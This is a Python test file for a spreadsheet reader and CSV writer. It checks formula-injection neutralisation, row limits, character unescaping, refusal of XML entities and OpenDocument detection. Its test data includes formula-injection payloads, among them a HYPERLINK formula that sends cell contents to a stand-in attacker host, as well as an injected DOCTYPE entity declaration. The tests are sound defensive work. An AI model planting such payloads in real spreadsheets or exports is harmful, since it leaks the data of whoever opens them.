"""Tables: what spreadsheets would run is inert however they part the cells, and what is read has limits."""

import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from ecosystem.ground.spreadsheet import TableError, csv_bytes, read_table

#: A sign by which a program takes a cell for a formula, behind what is not seen.
RUN = re.compile('[\\s"\u00ad\u200b\ufeff\u3164]*[=+\\-@\uff1d\uff0b\uff0d\uff20]')

FORMULAS = (
    'Esim;=6*7;=HYPERLINK("https://evil.example/"&A1);x',
    'a;"=6*7"',
    "a\n=6*7",
    "a\t+1\t@SUM(1)",
    "a|-1",
    "\uff1d6*7",
    "\u200b=6*7",
    "\ufeff\u00ad+6",
    "a;\u3164=1",
    " =6*7",
    "a;;'=1",
)


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_no_cell_runs_however_a_spreadsheet_parts_them(tmp_path: Path, text: str, delimiter: str) -> None:
    table = tmp_path / "t.csv"
    table.write_bytes(csv_bytes([["id", "text"], ["x", text]]))
    shown = table.read_text(encoding="utf-8-sig")
    for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):  # a quotation mark within a cell is no beginning
        for row in csv.reader(io.StringIO(shown, newline=""), delimiter=delimiter, quoting=quoting):
            assert not [cell for cell in row if RUN.match(cell)]
    assert read_table(table)[1].cells[1].text == text


def workbook(path: Path, cells: dict[str, str]) -> Path:
    book = openpyxl.Workbook()
    for name, value in cells.items():
        book.worksheets[0][name] = value
    book.save(path)
    return path


def replaced(path: Path, part: str, old: bytes, new: bytes) -> None:
    """Write *new* for *old* in a *part* of the workbook at *path*."""
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    assert old in parts[part]
    parts[part] = parts[part].replace(old, new)
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)


SHEET = "xl/worksheets/sheet1.xml"


def test_a_cell_in_the_last_row_is_read_at_once(tmp_path: Path) -> None:
    rows = read_table(workbook(tmp_path / "t.xlsx", {"A1": "id", "B1048576": "x"}))
    assert [(row.number, [cell.text for cell in row.cells]) for row in rows] == [(1, ["id"]), (1048576, ["", "x"])]


def test_a_row_that_no_sheet_has_does_not_keep_anybody_waiting(tmp_path: Path) -> None:
    table = workbook(tmp_path / "t.xlsx", {"A1": "id", "A2": "x"})
    replaced(table, SHEET, b'r="2"', b'r="99999999999"')
    assert [row.number for row in read_table(table)] == [1]


def test_empty_rows_without_end_are_too_many(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("ecosystem.ground.spreadsheet.MOST_ROWS", 100)
    table = workbook(tmp_path / "t.xlsx", {"A1": "id"})
    replaced(table, SHEET, b"</sheetData>", b"<row/>" * 250 + b"</sheetData>")
    with pytest.raises(TableError, match="table_too_long"):
        read_table(table)


def test_codes_of_characters_are_undone_once(tmp_path: Path) -> None:
    cells = {"A1": "a_x000D_\nb", "B1": "a_x005F_x000D_b", "C1": "a_x000D_b"}
    (row,) = read_table(workbook(tmp_path / "t.xlsx", cells))
    assert [cell.text for cell in row.cells] == ["a\nb", "a_x000D_b", "a\nb"]


def test_a_part_that_declares_entities_is_refused(tmp_path: Path) -> None:
    table = workbook(tmp_path / "t.xlsx", {"A1": "id"})
    replaced(table, SHEET, b"<worksheet", b'<!DOCTYPE x [<!ENTITY a "b">]><worksheet')
    with pytest.raises(TableError, match="table_unreadable"):
        read_table(table)


def test_a_table_of_opendocument_is_named(tmp_path: Path) -> None:
    with zipfile.ZipFile(tmp_path / "t.ods", "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", "<x/>")
    with pytest.raises(TableError, match="table_opendocument"):
        read_table(tmp_path / "t.ods")
